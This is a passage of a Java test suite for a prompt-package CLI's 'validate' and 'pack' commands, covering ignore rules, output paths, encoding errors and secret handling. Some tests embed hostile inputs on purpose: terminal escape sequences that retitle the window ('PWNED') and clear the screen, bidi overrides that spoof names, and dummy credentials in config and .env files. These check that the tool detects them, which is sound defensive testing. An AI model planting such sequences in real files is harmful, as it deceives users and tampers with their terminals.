    /** npm packs them whatever .npmignore says; a note that the rule does nothing saves reading the tarball. */
    @Test
    void ignoringTheReadmeAndLicenseStillPacksThemWithAWarningForEachRule() throws IOException {
        write("prompd.json", """
                {"name": "@acme/greeter", "version": "1.0.0", "description": "Greets people", "license": "MIT",
                 "ignore": ["LICENSE", "README.md"]}
                """);

        CliRun validate = CliRun.in(pkg, home, "validate");
        CliRun pack = CliRun.in(pkg, home, "pack", "--json");

        assertEquals(0, validate.exitCode(), validate.err());
        assertTrue(validate.out().startsWith("@acme/greeter@1.0.0: 4 files"), validate.out());
        assertTrue(validate.out().endsWith("""
                prompd.json
                  warning /ignore/0, line 2: "LICENSE" in "ignore" leaves out nothing: LICENSE is packed anyway, as\
                 prompd.json and the README and LICENSE files at the root always are
                          hint: remove the rule from "ignore"
                  warning /ignore/1, line 2: "README.md" in "ignore" leaves out nothing: README.md is packed anyway, as\
                 prompd.json and the README and LICENSE files at the root always are
                          hint: remove the rule from "ignore"
                0 errors, 2 warnings
                """), validate.out());
        assertEquals(0, pack.exitCode(), pack.err());
        JsonNode json = Json.reader().readTree(pack.out());
        assertEquals(List.of("LICENSE", "README.md", "prompd.json", "prompts/greet.prmd"),
                tarEntries(pkg.resolve("acme-greeter-1.0.0.tgz")));
        assertEquals(2, json.get("problems").size(), json.toString());
    }

    /**
     * A CI caching its prompd home in the checkout: what 'prompd login' stored there, and the installed packages,
     * private ones too, are never the package's, as npm never packs .npmrc. A copy of the home, which no command knows
     * for its own, is refused for the credentials its config.json holds.
     */
    @Test
    void thePrompdHomeInUseIsLeftOutOfThePackageItLiesInAndACopyHoldingCredentialsIsRefused() throws IOException {
        Path inside = pkg.resolve(".prompd-home");
        // as 'prompd login' stores them, without a registry to log in to
        write(".prompd-home/config.json", """
                {
                  "credentials": {
                    "http://127.0.0.1:18321/": {
                      "password": "S3cret-PW",
                      "username": "ci"
                    }
                  },
                  "registries": {
                    "acme": "http://127.0.0.1:18321/"
                  }
                }
                """);
        write(".prompd-home/packages/@acme/private@1.0.0/prompts/p.prmd", "---\nid: p\n---\nPrivate\n");
        String leftOut = """
                .prompd-home/
                  warning left out of the package: it is the prompd home in use, which holds the credentials 'prompd\
                 login' stores and the installed packages
                """;

        CliRun validate = CliRun.in(pkg, inside, "validate");
        CliRun pack = CliRun.in(pkg, inside, "pack");

        assertEquals(0, validate.exitCode(), validate.err());
        assertTrue(validate.out().contains(leftOut), validate.out());
        assertEquals(0, pack.exitCode(), pack.err());
        assertTrue(pack.err().contains(leftOut), pack.err());
        assertEquals(List.of("LICENSE", "README.md", "prompd.json", "prompts/greet.prmd"),
                tarEntries(pkg.resolve("acme-greeter-1.0.0.tgz")));

        Files.delete(pkg.resolve("acme-greeter-1.0.0.tgz"));
        write("ci/config.json", Files.readString(inside.resolve("config.json")));
        CliRun copy = CliRun.in(pkg, inside, "pack");
        CliRun anotherHome = CliRun.in(pkg, home, "validate");

        assertEquals(1, copy.exitCode(), copy.err());
        assertTrue(copy.err().contains("""
                ci/config.json
                  error   line 4: the file is a prompd configuration holding the password or token 'prompd login'\
                 stored for a registry
                """), copy.err());
        assertFalse(Files.exists(pkg.resolve("acme-greeter-1.0.0.tgz")));
        assertEquals(1, anotherHome.exitCode(), anotherHome.out());
        assertTrue(anotherHome.out().contains(".prompd-home/config.json\n  error   line 4: the file is a prompd"
                + " configuration holding"), anotherHome.out());
        assertFalse((validate.out() + pack.err() + copy.err() + anotherHome.out()).contains("S3cret"));
    }

    @Test
    void aPackageFolderThatIsThePrompdHomeInUseIsRefused() {
        CliRun pack = CliRun.in(pkg, pkg, "pack");

        assertEquals(4, pack.exitCode(), pack.err());
        assertTrue(pack.err().startsWith("error: the package folder " + pkg + " is the prompd home in use"),
                pack.err());
        assertFalse(Files.exists(pkg.resolve("acme-greeter-1.0.0.tgz")));
    }

    private static List<String> tarEntries(Path tarball) throws IOException {
        List<String> names = new ArrayList<>();
        try (TarArchiveInputStream tar =
                new TarArchiveInputStream(new GZIPInputStream(Files.newInputStream(tarball)))) {
            for (TarArchiveEntry entry = tar.getNextEntry(); entry != null; entry = tar.getNextEntry()) {
                names.add(entry.getName().substring("package/".length()));
            }
        }
        return names;
    }

    @Test
    void aLicenseWrittenWithoutItsVersionIsToldTheLicensesOfItsFamily() throws IOException {
        write("prompd.json", """
                {"name": "@acme/greeter", "version": "1.0.0", "description": "Greets", "license": "BSD"}
                """);

        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().contains("""
                  warning /license, line 1: 'BSD' is not a known SPDX license identifier; did you mean BSD-4-Clause,\
                 BSD-3-Clause, BSD-2-Clause, BSD-1-Clause, BSD-4-Clause-Shortened, BSD-4-Clause-UC or one of 23 more of\
                 that family?
                """), run.out());
    }

    /** The dependency is declared: only its range is wrong, and adding the entry again would not help. */
    @Test
    void aPromptTakingFromADependencyWithAnInvalidRangeHasNoErrorOfItsOwn() throws IOException {
        write("prompd.json", """
                {"name": "@acme/greeter", "version": "1.0.0", "description": "Greets", "license": "MIT",
                 "dependencies": {"@common/base": "^2.x.y"}}
                """);
        write("prompts/greet.prmd", """
                ---
                id: greet
                inherits: "@common/base@^2.1.0/prompts/writer.prmd"
                ---
                # User
                Say hello.
                """);

        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode(), run.err());
        assertTrue(run.out().contains("  error   /dependencies/@common/base, line 2: "), run.out());
        assertFalse(run.out().contains("prompts/greet.prmd"), run.out());
        assertTrue(run.out().endsWith("1 error, 0 warnings\n"), run.out());
    }

    @Test
    void aBidiOverrideInTheManifestFailsValidateWithTheFieldsPathSpeltOutAsAFileNamesIs() throws IOException {
        write("prompd.json", """
                {"name": "@acme/greeter", "version": "1.0.0", "description": "Greets \\u202eexe.md", "license": "MIT",
                 "x-\\u202emd": true}
                """);
        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode(), run.out());
        assertTrue(run.out().contains("  error   /description, line 1: 'description' holds the bidi control U+202E at"
                + " position 8\n"), run.out());
        assertTrue(run.out().contains("  error   /x-<U+202E>md, line 2: the name of 'x-<U+202E>md' holds the invisible"
                + " Unicode character U+202E at position 3\n"), run.out());
        assertFalse(run.out().contains("\u202e"), "nothing of the manifest reorders the report: " + run.out());
    }

    /** As the tester found it: a README retitling the window and clearing the screen, validate said no problems. */
    @Test
    void aReadmeHoldingATerminalsEscapeSequencesFailsValidateNamingThemSpeltOut() throws IOException {
        write("README.md", "# Greeter\n\nA test \u001b]0;PWNED\u0007\u001b[2J here.\n");
        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode(), run.out());
        assertTrue(run.out().contains("README.md\n  error   line 3: the line holds the control characters"
                + " U+001B (^[) at position 8, U+0007 (^G) at position 17 and U+001B (^[) at position 18\n"),
                run.out());
        assertFalse(run.out().contains("\u001b"), "nothing of the README reaches the terminal as it is written");
    }

    @Test
    void aControlCharacterInAFieldPrompdDoesNotKnowFailsValidateSpeltOutWithTheFieldsPath() throws IOException {
        write("prompd.json", """
                {"name": "@acme/greeter", "version": "1.0.0", "description": "Greets", "license": "MIT",
                 "x-site": {"title": "\\u001b]0;owned\\u0007", "\\u001b[2J": true},
                 "dependencies": {"@acme/x": "^1.0.0\\u001b"}}
                """);
        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode(), run.out());
        assertTrue(run.out().contains("  error   /x-site/^[[2J, line 2: the name of 'x-site/^[[2J' holds the control"
                + " character U+001B (^[) at position 1\n"), run.out());
        assertTrue(run.out().contains("  error   /x-site/title, line 2: 'x-site/title' holds the control characters"
                + " U+001B (^[) at position 1 and U+0007 (^G) at position 10\n"), run.out());
        assertTrue(run.out().contains("  error   /dependencies/@acme/x, line 3: 'dependencies/@acme/x' holds the"
                + " control character U+001B (^[) at position 7\n"), run.out());
        assertFalse(run.out().contains("not a valid version range"), "the range is reported once: " + run.out());
        assertFalse(run.out().contains("\u001b"), "nothing of the manifest reaches the terminal as it is written");
    }

    @Test
    void aParameterWrittenWithSingleBracesIsAWarningThatPassesValidate() throws IOException {
        Path prompt = pkg.resolve("prompts/greet.prmd");
        Files.writeString(prompt, Files.readString(prompt).replace("{{ who }}", "{who}"));
        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(0, run.exitCode(), run.out());
        assertTrue(run.out().contains("prompts/greet.prmd\n  warning line 10: '{who}' is left in the text as it is"
                + " written: only '{{ who }}' is replaced by the parameter's value\n          hint: write {{ who }}"),
                run.out());
    }

    @Test
    void aPromptInheritingAPromptWithoutTextAndHavingNoneIsAWarning() throws IOException {
        write("prompts/preset.prmd", "---\ninherits: ./base.prmd\n---\n");
        write("prompts/base.prmd", "---\nparameters:\n  - name: who\n---\n");
        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(0, run.exitCode(), run.out());
        assertTrue(run.out().contains("prompts/preset.prmd\n  warning line 3: the prompt has no text after its front"
                + " matter, nor has the prompt it inherits, prompts/base.prmd\n"), run.out());
    }

    @Test
    void aPackageWithErrorsIsStillNamedByWhatItsManifestGives() throws IOException {
        write("prompd.json", """
                {"name": "@acme/greeter", "version": "v1", "license": "MIT"}
                """);
        CliRun run = CliRun.in(pkg, home, "validate");
        assertEquals(1, run.exitCode());
        assertTrue(run.out().startsWith("@acme/greeter: "), run.out());

        JsonNode json = Json.reader().readTree(CliRun.in(pkg, home, "validate", "--json").out());
        assertEquals("@acme/greeter", json.get("name").asText());
        assertTrue(json.path("version").isMissingNode(), "an invalid version is left out");
    }

    /**
     * Where there is no name to give, the header names the package's folder, which tells a loop over packages which one
     * it is, "(no valid name)" did not, and ends in '/', so that it does not read as a name: "package@1.0.0" looked
     * like a package.
     */
    @Test
    void aPackageWithAnInvalidOrNoNameOrNoJsonIsHeadedByItsFolder() throws IOException {
        for (String manifest : List.of("{\"name\": \"Greeter\", \"version\": \"1.0.0\"}", "{\"version\": \"1.0.0\"}",
                "{\"name\": \"@acme/greeter\", \"version\": \"1.0.0\",}")) {
            write("prompd.json", manifest);

            CliRun here = CliRun.in(pkg, home, "validate");
            CliRun given = CliRun.in(pkg.getParent(), home, "validate", pkg.getFileName().toString());
            CliRun packed = CliRun.in(pkg.getParent(), home, "pack", pkg.getFileName().toString());

            assertEquals(1, here.exitCode(), here.err());
            assertTrue(here.out().startsWith("./: 4 files, "), manifest + "\n" + here.out());
            assertTrue(given.out().startsWith(pkg.getFileName() + "/: 4 files, "), manifest + "\n" + given.out());
            assertTrue(packed.err().startsWith(pkg.getFileName() + "/: 4 files, "), manifest + "\n" + packed.err());
        }
    }

    @Test
    void aFilesEntryIsJudgedOnceAndALeadingSlashIsTolerated() throws IOException {
        write("prompd.json", """
                {"name": "@acme/greeter", "version": "1.0.0", "license": "MIT", "files": ["/prompts/", "../outside"]}
                """);
        CliRun run = CliRun.in(pkg, home, "validate");

        assertEquals(1, run.exitCode());
        assertTrue(run.out().contains("/files/1, line 1: the pattern '../outside' leads outside the package"),
                run.out());
        assertTrue(run.out().endsWith("1 error, 1 warning\n"), "one error for the one wrong entry: " + run.out());
    }

    @Test
    void validateJsonIsMachineReadable() throws IOException {
        CliRun run = CliRun.in(work, home, "validate", "greeter", "--json");
        assertEquals(0, run.exitCode(), run.err());
        JsonNode json = Json.reader().readTree(run.out());
        assertTrue(json.get("ok").asBoolean());
        assertEquals("@acme/greeter", json.get("name").asText());
        assertEquals(4, json.get("files").size());
    }

    /** Warnings alone pass, as npm and cargo let them; --strict fails them, for an author's CI, as mkdocs's does. */
    @Test
    void warningsAlonePassValidateAndFailItWithStrictSayingWhy() throws IOException {
        Files.delete(pkg.resolve("LICENSE"));
        write("prompd.json", """
                {"name": "@acme/greeter", "version": "1.0.0", "description": "Greets people", "license": "MIT",
                 "main": "prompts/greet.prmd", "dependancies": {}}
                """);

        CliRun lenient = CliRun.in(pkg, home, "validate");
        CliRun strict = CliRun.in(pkg, home, "validate", "--strict");

        assertEquals(0, lenient.exitCode(), lenient.err());
        assertTrue(lenient.out().endsWith("0 errors, 2 warnings\n"), lenient.out());
        assertEquals(1, strict.exitCode(), strict.err());
        assertEquals(lenient.out() + "failed: the 2 warnings fail validate with --strict; fix them, or leave --strict"
                + " out to let warnings pass\n", strict.out());
        assertEquals(lenient.err(), strict.err());
    }

    /**
     * A tester's contexts/prod.env passed validate without a word and was packed: it is told as a .env is, left out of
     * the tarball, and fails validate with --strict, as an author's CI runs it.
     */
    @Test
    void aProdEnvIsLeftOutWithTheWarningOfADotEnvAndFailsValidateWithStrict() throws IOException {
        write("contexts/prod.env", "DB_PASSWORD=hunter2-very-secret\n");

        CliRun lenient = CliRun.in(pkg, home, "validate");
        CliRun strict = CliRun.in(pkg, home, "validate", "--strict");
        CliRun pack = CliRun.in(pkg, home, "pack");

        assertEquals(0, lenient.exitCode(), lenient.err());
        assertEquals(1, strict.exitCode(), strict.err());
        assertTrue(strict.out().contains("contexts/prod.env\n  warning left out of the package because it looks like"
                + " secrets\n"), strict.out());
        assertTrue(strict.out().contains("keep secrets out of package folders; pack never includes .env*, *.env,"),
                strict.out());
        assertTrue(strict.out().endsWith("0 errors, 1 warning\nfailed: the warning fails validate with --strict; fix"
                + " it, or leave --strict out to let warnings pass\n"), strict.out());
        assertEquals(0, pack.exitCode(), pack.err());
        assertFalse(tarEntries(pkg.resolve("acme-greeter-1.0.0.tgz")).contains("contexts/prod.env"), pack.out());
    }

    @Test
    void oneWarningFailsValidateWithStrictInTheSingular() throws IOException {
        Files.delete(pkg.resolve("LICENSE"));

        CliRun strict = CliRun.in(pkg, home, "validate", "--strict");

        assertEquals(1, strict.exitCode(), strict.err());
        assertTrue(strict.out().endsWith("0 errors, 1 warning\nfailed: the warning fails validate with --strict; fix"
                + " it, or leave --strict out to let warnings pass\n"), strict.out());
    }

    /** With --strict, "ok" alone tells the failure: the problems and every other field are as without it. */
    @Test
    void validateJsonWithStrictGivesOkFalseForWarningsAndTheSameObjectOtherwise() throws IOException {
        Files.delete(pkg.resolve("LICENSE"));

        CliRun lenient = CliRun.in(pkg, home, "validate", "--json");
        CliRun strict = CliRun.in(pkg, home, "validate", "--json", "--strict");

        assertEquals(0, lenient.exitCode(), lenient.err());
        assertEquals(1, strict.exitCode(), strict.err());
        assertEquals("", strict.err());
        JsonNode json = Json.reader().readTree(strict.out());
        assertFalse(json.get("ok").asBoolean(), strict.out());
        assertEquals("warning", json.at("/problems/0/severity").asText(), strict.out());
        ObjectNode expected = (ObjectNode) Json.reader().readTree(lenient.out());
        assertTrue(expected.get("ok").asBoolean(), lenient.out());
        assertEquals(expected.put("ok", false), json);
    }

    /** --strict adds to warnings alone: a package with errors fails as it did, and a clean one passes. */
    @Test
    void strictChangesNothingForAPackageWithErrorsOrWithoutProblems() throws IOException {
        CliRun clean = CliRun.in(pkg, home, "validate", "--strict");
        CliRun cleanJson = CliRun.in(pkg, home, "validate", "--strict", "--json");
        assertEquals(0, clean.exitCode(), clean.err());
        assertEquals(CliRun.in(pkg, home, "validate").out(), clean.out());
        assertTrue(clean.out().endsWith("no problems\n"), clean.out());
        assertEquals(0, cleanJson.exitCode(), cleanJson.err());
        assertTrue(Json.reader().readTree(cleanJson.out()).get("ok").asBoolean(), cleanJson.out());

        Files.delete(pkg.resolve("LICENSE"));
        write("prompd.json", "{\"name\": \"@acme/greeter\", \"version\": \"v1\", \"license\": \"MIT\"}\n");
        for (List<String> args : List.of(List.of("validate"), List.of("validate", "--json"))) {
            CliRun lenient = CliRun.in(pkg, home, args.toArray(String[]::new));
            CliRun strict = CliRun.in(pkg, home, Stream.concat(args.stream(), Stream.of("--strict"))
                    .toArray(String[]::new));

            assertEquals(1, lenient.exitCode(), lenient.err());
            assertTrue(lenient.out().contains("warning"), lenient.out());
            assertEquals(1, strict.exitCode(), strict.err());
            assertEquals(lenient.out(), strict.out());
            assertEquals(lenient.err(), strict.err());
        }
    }

    @Test
    void validateOfAMissingFolderIsNotFound() {
        CliRun run = CliRun.in(work, home, "validate", "nowhere");
        assertEquals(3, run.exitCode());
        assertTrue(run.err().startsWith("error: no package folder at "), run.err());
        assertTrue(run.err().contains("hint: "), run.err());
    }

    /** A link to nothing is named with where it leads, not as a folder that init would create: init refuses it. */
    @Test
    void validateAndPackOfALinkToNothingNameWhereItLeads() throws IOException {
        Path link = Files.createSymbolicLink(work.resolve("dl"), Path.of("nothere"));

        for (String command : List.of("validate", "pack")) {
            CliRun run = CliRun.in(work, home, command, "dl");

            assertEquals(3, run.exitCode(), run.err());
            assertEquals("error: " + link + " is a link to nothere, which does not exist\nhint: point the link at the"
                    + " package's folder, or give that folder itself\n", run.err(), command);
        }
    }

    @Test
    void packWritesAReproducibleTarballAndPrintsItsIntegrity() throws IOException {
        CliRun first = CliRun.in(work, home, "pack", "greeter");
        assertEquals(0, first.exitCode(), first.err());
        Path tarball = work.resolve("acme-greeter-1.0.0.tgz");
        byte[] bytes = Files.readAllBytes(tarball);
        assertTrue(first.out().contains("integrity:     " + Integrity.of(bytes)), first.out());
        assertTrue(first.out().contains("files:         4\n"), first.out());

        Files.setLastModifiedTime(pkg.resolve("README.md"), FileTime.from(Instant.parse("2001-01-01T00:00:00Z")));
        CliRun second = CliRun.in(work, home, "pack", "greeter", "--out", "again.tgz");
        assertEquals(0, second.exitCode(), second.err());
        assertArrayEquals(bytes, Files.readAllBytes(work.resolve("again.tgz")));
    }

    @Test
    void packIntoAnExistingFolderWritesTheUsualNameThere() throws IOException {
        Path dist = Files.createDirectories(work.resolve("dist"));

        CliRun run = CliRun.in(work, home, "pack", "greeter", "-o", "dist");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(run.out().startsWith("file:          " + dist.resolve("acme-greeter-1.0.0.tgz") + "\n"), run.out());
        try (Stream<Path> entries = Files.list(dist)) {
            assertEquals(List.of(dist.resolve("acme-greeter-1.0.0.tgz")), entries.toList());
        }
    }

    @Test
    void packIntoAPathEndingInASlashCreatesThatFolder() throws IOException {
        CliRun run = CliRun.in(work, home, "pack", "greeter", "-o", "dist/new/");

        assertEquals(0, run.exitCode(), run.err());
        assertTrue(Files.isRegularFile(work.resolve("dist/new/acme-greeter-1.0.0.tgz")), run.out());
    }

    @Test
    void packIntoAFileOfAMissingFolderIsNotFoundAndCreatesNothing() {
        CliRun run = CliRun.in(work, home, "pack", "greeter", "--out", "missing/dir/x.tgz");

        assertEquals(3, run.exitCode(), run.err());
        assertEquals("error: no folder " + work.resolve("missing/dir")
                + " to write the tarball x.tgz into\nhint: create it"
                + " first (mkdir -p " + work.resolve("missing/dir") + "), or end --out with '/' to have pack create the"
                + " folder and name the tarball\n", run.err());
        assertFalse(Files.exists(work.resolve("missing")));
    }

    /** Pasted as it is shown, the suggested mkdir creates the folder, not one folder per word of its path. */
    @Test
    void theFolderToCreateIsShellQuotedInTheSuggestedCommand() {
        CliRun run = CliRun.in(work, home, "pack", "greeter", "--out", "a b/x.tgz");

        assertEquals(3, run.exitCode(), run.err());
        assertTrue(run.err().contains("\nhint: create it first (mkdir -p '" + work.resolve("a b") + "'), or end"),
                run.err());
    }

    @Test
    void packRefusesToWriteOverOneOfThePackagesOwnFiles() throws IOException {
        byte[] manifest = Files.readAllBytes(pkg.resolve("prompd.json"));

        CliRun run = CliRun.in(pkg, home, "pack", "--out", "prompd.json");

        assertEquals(4, run.exitCode(), run.err());
        assertTrue(run.err().startsWith("error: refusing to write the tarball over " + pkg.resolve("prompd.json")
                + ": it is the package's own prompd.json, which it packs\nhint: "), run.err());
        assertArrayEquals(manifest, Files.readAllBytes(pkg.resolve("prompd.json")));
    }

    @Test
    void packRefusesToReplaceALinkOrAFileThatIsNoTarball() throws IOException {
        Path notes = Files.writeString(work.resolve("notes.txt"), "mine\n");
        Path link = Files.createSymbolicLink(work.resolve("link.tgz"), notes);

        CliRun overLink = CliRun.in(work, home, "pack", "greeter", "--out", "link.tgz");
        CliRun overNotes = CliRun.in(work, home, "pack", "greeter", "--out", "notes.txt");

        assertEquals(4, overLink.exitCode(), overLink.err());
        assertTrue(overLink.err().contains(link + ": it is a symbolic link\nhint: give --out a new file name"),
                overLink.err());
        assertTrue(Files.isSymbolicLink(link));
        assertEquals(4, overNotes.exitCode(), overNotes.err());
        assertTrue(overNotes.err().contains(notes + ": it is not a package tarball"), overNotes.err());
        assertEquals("mine\n", Files.readString(notes));
    }

    @Test
    void anEmptyOutIsAUsageError() {
        CliRun empty = CliRun.in(work, home, "pack", "greeter", "--out", "");

        assertEquals(2, empty.exitCode(), empty.err());
        assertTrue(empty.err().startsWith("error: --out is empty"), empty.err());
    }

    @Test
    void packRefusesToReplaceAGzipFileThatIsNoPackageTarball() throws IOException {
        Path dump = work.resolve("important.sql.gz");
        try (OutputStream out = new GZIPOutputStream(Files.newOutputStream(dump))) {
            out.write("insert into t values (1);\n".repeat(100).getBytes(StandardCharsets.UTF_8));
        }
        byte[] before = Files.readAllBytes(dump);

        CliRun overDump = CliRun.in(work, home, "pack", "greeter", "--out", "important.sql.gz");

        assertEquals(4, overDump.exitCode(), overDump.err());
        assertTrue(overDump.err().contains("it is not a package tarball"), overDump.err());
        assertArrayEquals(before, Files.readAllBytes(dump));
    }

    @Test
    void packRefusesToWriteIntoAFolderOfThePackageWhichTheNextPackWouldPack() throws IOException {
        CliRun intoPrompts = CliRun.in(work, home, "pack", "greeter", "--out", "greeter/prompts");

        assertEquals(4, intoPrompts.exitCode(), intoPrompts.err());
        assertTrue(intoPrompts.err().contains("a folder of the package: the next pack would pack it"),
                intoPrompts.err());
        assertEquals(0, CliRun.in(work, home, "pack", "greeter", "--out", "greeter").exitCode(),
                "the root is pack's own place");
        assertEquals(0, CliRun.in(work, home, "validate", "greeter").exitCode());
    }

    /** As npm packs into an ignored dist/: a tarball there is in no later pack. */
    @Test
    void packWritesIntoAFolderOfThePackageThatIgnoreOrFilesLeaveOut() throws IOException {
        write("prompd.json", Files.readString(pkg.resolve("prompd.json")).replace("\"main\"",
                "\"ignore\": [\"build/\"], \"main\""));

        CliRun intoBuild = CliRun.in(work, home, "pack", "greeter", "-o", "greeter/build/");
        CliRun again = CliRun.in(work, home, "pack", "greeter", "-o", "greeter/build/");
        CliRun intoDist = CliRun.in(work, home, "pack", "greeter", "-o", "greeter/dist/");

        assertEquals(0, intoBuild.exitCode(), intoBuild.err());
        assertEquals(0, again.exitCode(), again.err());
        assertTrue(again.out().contains("files:         4\n"), again.out());
        assertTrue(Files.isRegularFile(pkg.resolve("build/acme-greeter-1.0.0.tgz")));
        assertEquals(4, intoDist.exitCode(), intoDist.err());
        assertTrue(intoDist.err().contains("the next pack would pack it, as neither \"ignore\" nor \"files\" in"
                + " prompd.json leaves dist/acme-greeter-1.0.0.tgz out"), intoDist.err());
        write("prompd.json", Files.readString(pkg.resolve("prompd.json")).replace("\"ignore\": [\"build/\"]",
                "\"files\": [\"prompts/\"]"));
        assertEquals(0, CliRun.in(work, home, "pack", "greeter", "-o", "greeter/dist/").exitCode());
        assertTrue(Files.isRegularFile(pkg.resolve("dist/acme-greeter-1.0.0.tgz")));
        assertEquals(4, CliRun.in(work, home, "pack", "greeter", "-o", "greeter/prompts/").exitCode());
    }

    @Test
    void packRefusesToWriteThroughALinkIntoAFolderOfThePackage() throws IOException {
        Path link = Files.createSymbolicLink(work.resolve("out"), pkg.resolve("prompts"));

        // --out, and the tarball's folder below the link
        Map<String, String> outs = Map.of("out/", "", "out/new/", "new", "out/x.tgz", "");
        outs.forEach((out, below) -> {
            CliRun run = CliRun.in(work, home, "pack", "greeter", "-o", out);

            assertEquals(4, run.exitCode(), out + ": " + run.err());
            assertEquals("error: refusing to write the tarball into " + link.resolve(below) + ", which leads to "
                    + pkg.resolve("prompts").resolve(below)
                    + ", a folder of the package: the next pack would pack it, as"
                    + " neither \"ignore\" nor \"files\" in prompd.json leaves prompts/"
                    + (below.isEmpty() ? "" : below + "/")
                    + (out.endsWith(".tgz") ? "x.tgz" : "acme-greeter-1.0.0.tgz") + " out\n"
                    + "hint: give --out the package folder itself, a folder outside the package, or one that \"ignore\""
                    + " leaves out\n", run.err(), out);
        });
        try (Stream<Path> prompts = Files.list(pkg.resolve("prompts"))) {
            assertEquals(List.of(pkg.resolve("prompts/greet.prmd")), prompts.toList());
        }
        Files.createSymbolicLink(work.resolve("root"), pkg);
        assertEquals(0, CliRun.in(work, home, "pack", "greeter", "-o", "root/").exitCode(),
                "the root is pack's own place");
        assertTrue(Files.isRegularFile(pkg.resolve("acme-greeter-1.0.0.tgz")));
    }

    @Test
    void packNamesAFileStandingWhereTheTarballsFolderShouldBe() throws IOException {
        Path file = Files.writeString(work.resolve("lock.orig"), "mine\n");

        for (String out : List.of("lock.orig/x.tgz", "lock.orig/deeper/x.tgz", "lock.orig/")) {
            CliRun run = CliRun.in(work, home, "pack", "greeter", "--out", out);

            assertEquals(4, run.exitCode(), out + ": " + run.err());
            assertEquals("error: " + file + " is a file, not a folder: no tarball can be written into it\n"
                    + "hint: rename or remove it, or give --out another path\n", run.err(), out);
        }
        assertEquals("mine\n", Files.readString(file));
        CliRun inPackage = CliRun.in(work, home, "pack", "greeter", "--out", "greeter/README.md/x.tgz");
        assertEquals(4, inPackage.exitCode(), inPackage.err());
        assertTrue(inPackage.err().startsWith("error: " + pkg.resolve("README.md") + " is a file of the package, not a"
                + " folder: no tarball can be written into it\nhint: give --out the package folder itself"),
                inPackage.err());
    }

    @Test
    void packReplacesAnEarlierTarballGivenByName() throws IOException {
        assertEquals(0, CliRun.in(work, home, "pack", "greeter", "--out", "out.tgz").exitCode());
        write("README.md", "# Greeter, again\n");

        CliRun again = CliRun.in(work, home, "pack", "greeter", "--out", "out.tgz");

        assertEquals(0, again.exitCode(), again.err());
        assertTrue(again.out().contains("integrity:     " + Integrity.of(Files.readAllBytes(work.resolve("out.tgz")))),
                again.out());
    }

    /**
     * The registry serves the package's README as text whether prompd.json's "readme" names it or it is chosen without
     * one: a README.md in Latin-1 that a prompt also takes as a context file (which may be binary) passed validate and
     * pack when chosen by default, and the registry served it garbled, while named it was refused at the field, beside
     * the file's own error when no prompt took it. Now either way it is the same one error at the file, exit 1, and
     * pack writes nothing.
     */
    @Test
    void aReadmeThatIsNotUtf8FailsValidateAndPackAlikeWhetherNamedOrChosenByDefaultContextFileOrNot()
            throws IOException {
        String expected = """
                README.md
                  error   line 3: the file is not UTF-8: this line holds the byte 0xE9, which UTF-8 does not allow\
                 there, and the registry serves the package's README as text
                          hint: save it as UTF-8 (most editors offer an encoding when saving), or name in\
                 prompd.json's "readme" a Markdown or text file saved so
                1 error, 0 warnings
                """;
        Files.write(pkg.resolve("README.md"), "# Greeter\n\nGreets you at the caf\u00E9.\n"
                .getBytes(StandardCharsets.ISO_8859_1));
        String manifest = Files.readString(pkg.resolve("prompd.json"));
        String prompt = Files.readString(pkg.resolve("prompts/greet.prmd"));
        for (String readme : List.of("", "  \"readme\": \"README.md\",\n")) {
            write("prompd.json", manifest.replace("  \"main\"", readme + "  \"main\""));
            for (String context : List.of("", "context: ../README.md\n")) {
                write("prompts/greet.prmd", prompt.replace("id: greet\n", "id: greet\n" + context));
                String variant = (readme.isEmpty() ? "chosen by default" : "named") + (context.isEmpty() ? ""
                        : ", a context file");

                CliRun validate = CliRun.in(pkg, home, "validate");
                CliRun pack = CliRun.in(pkg, home, "pack");

                assertEquals(1, validate.exitCode(), variant + ": " + validate.out() + validate.err());
                assertEquals(expected, validate.out().substring(validate.out().indexOf('\n') + 1), variant);
                assertEquals(1, pack.exitCode(), variant + ": " + pack.out() + pack.err());
                assertTrue(pack.err().startsWith(validate.out()), variant + ": " + pack.err());
                try (var files = Files.list(pkg)) {
                    assertFalse(files.anyMatch(file -> file.toString().endsWith(".tgz")), variant);
                }
            }
        }
    }

    /**
     * A README holding a NUL byte was "binary" at no line ("line": 0 in --json), though saved as UTF-16 without a
     * byte order mark it is text in another encoding, as prompd.json in it is told: now a stray NUL is at its line, and
     * UTF-16 is named so, at its first NUL byte, in the text output and in --json alike, exit 1.
     */
    @ParameterizedTest
    @CsvSource({
        "UTF-16LE, 1, 'the file holds a NUL byte: it looks saved as UTF-16 without a byte order mark'",
        "UTF-8, 3, 'the file is binary: this line holds a NUL byte'"})
    void aReadmeHoldingANulByteIsRefusedAtItsLineAndUtf16WithoutAByteOrderMarkIsNamed(String encoding, int line,
            String message) throws IOException {
        String text = encoding.equals("UTF-8") ? "# Demo\n\nabc\u0000def\n" : "# Demo\n\nSome text\n";
        Files.write(pkg.resolve("README.md"), text.getBytes(Charset.forName(encoding)));
        String served = message + ", and the registry serves the package's README as text";

        CliRun validate = CliRun.in(pkg, home, "validate");
        CliRun json = CliRun.in(pkg, home, "validate", "--json");

        assertEquals(1, validate.exitCode(), validate.out() + validate.err());
        assertEquals("README.md\n  error   line " + line + ": " + served + "\n          hint: save it as UTF-8 (most"
                + " editors offer an encoding when saving), or name in prompd.json's \"readme\" a Markdown or text file"
                + " saved so\n1 error, 0 warnings\n", validate.out().substring(validate.out().indexOf('\n') + 1));
        assertEquals(1, json.exitCode(), json.out() + json.err());
        JsonNode problem = Json.reader().readTree(json.out()).get("problems").get(0);
        assertEquals(List.of("README.md", String.valueOf(line), served), List.of(problem.get("file").asText(),
                problem.get("line").asText(), problem.get("message").asText()), json.out());
    }

    @Test
    void packRefusesAPackageWithErrorsAndWritesNothing() throws IOException {
        write("prompd.json", "{\"name\": \"@acme/greeter\"}\n");
        CliRun run = CliRun.in(work, home, "pack", "greeter");
        assertEquals(1, run.exitCode());
        assertTrue(run.err().contains("/version"), run.err());
        assertTrue(run.err().contains("nothing was packed"), run.err());
        try (var files = Files.list(work)) {
